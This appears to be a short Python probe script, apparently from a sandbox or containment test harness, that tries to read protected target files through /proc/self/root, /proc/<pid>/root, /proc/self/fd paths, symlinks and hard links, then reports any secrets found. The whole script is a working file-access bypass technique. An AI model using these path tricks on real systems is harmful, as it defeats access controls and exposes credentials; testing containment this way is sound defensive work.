import os

import aim

ways = [f"/proc/self/root{path}" for path in aim.TARGETS["files"]]
ways += [f"/proc/{pid}/root{path}" for path in aim.TARGETS["files"] for pid in (1, os.getppid())]
ways += [f"/proc/self/fd/{number}{path}" for path in aim.TARGETS["files"] for number in range(9)]
for number, path in enumerate(aim.TARGETS["files"]):
    aim.attempt(os.symlink, path, f"link{number}")
    aim.attempt(os.link, path, f"hard{number}")
    ways += [f"link{number}", f"hard{number}"]
aim.tell(aim.secrets_in(*ways))
